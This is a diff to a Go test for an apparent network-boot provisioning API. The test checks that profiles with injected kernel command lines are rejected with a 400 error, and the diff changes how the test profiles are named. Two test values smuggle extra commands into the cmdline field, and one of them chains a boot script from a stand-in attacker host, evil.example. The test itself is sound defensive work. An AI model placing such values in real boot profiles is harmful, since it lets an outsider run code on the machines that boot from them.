@@ -12,11 +12,11 @@ import (
 func TestProfileCmdlineInjection(t *testing.T) {
 	s := startServer(t, serverOptions{})
 	s.mustAPI(http.StatusCreated, "POST", "/api/v1/profiles", benignProfile("benign"), nil)
-	for _, cmdline := range []string{
+	for i, cmdline := range []string{
 		"console=ttyS0 ; echo INJECTED ;",
 		"; chain http://evil.example/pwn.ipxe ;",
 	} {
-		p := benignProfile("inject")
+		p := benignProfile(fmt.Sprintf("inject%d", i))
 		p["cmdline"] = cmdline
 		if a := s.api("POST", "/api/v1/profiles", p); a.code != http.StatusBadRequest || a.field() != "cmdline" {
 			t.Errorf("POST /api/v1/profiles with cmdline %q: %s, want 400 naming cmdline", cmdline, a)
